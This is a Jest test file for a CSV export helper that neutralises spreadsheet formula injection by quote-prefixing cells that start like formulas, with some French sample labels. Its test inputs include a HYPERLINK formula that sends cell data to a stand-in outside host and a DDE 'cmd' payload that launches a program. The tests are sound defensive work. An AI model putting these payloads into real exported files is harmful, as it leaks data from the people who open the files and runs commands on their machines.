import { describe, expect, test } from '@jest/globals';
import { notRun, writeCsv } from '../../src/http/csv.js';

/** A spreadsheet that opens a file runs a cell that begins like a formula. */
describe('a text', () => {
  test.each([
    '=HYPERLINK("http://ailleurs.example/?"&A1;"Voir")',
    '+33 8 99 12 34 56',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1;1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
  ])('%j is written as a text', (text) => {
    expect(notRun(text)).toMatch(/^\s*'/);
  });

  test('is written as a text also where another spreadsheet ends a cell', () => {
    expect(notRun('Logement;=1+1')).toBe("Logement;'=1+1");
    expect(notRun('Logement\n=1+1')).toBe("Logement\n'=1+1");
    expect(notRun('Logement | @A1')).toBe("Logement | '@A1");
  });

  test.each(['Logement', '2026-10', 'sevran', 'A + B = C', 'moins de 18 ans, 18-25 ans', '', 'a@b'])(
    '%j stays as it is',
    (text) => {
      expect(notRun(text)).toBe(text);
    },
  );
});

test('a file keeps its numbers, the negative ones too, and its empty values', () => {
  const rows = [
    { label: '=1+1', value: -3, low: -4.5, high: null },
    { label: 'Logement "social", privé', value: 12, low: 0, high: 14 },
  ];
  expect(writeCsv(['label', 'value', 'low', 'high'], rows)).toBe(
    "'=1+1,-3,-4.5,\r\n" + '"Logement ""social"", privé",12,0,14\r\n',
  );
});
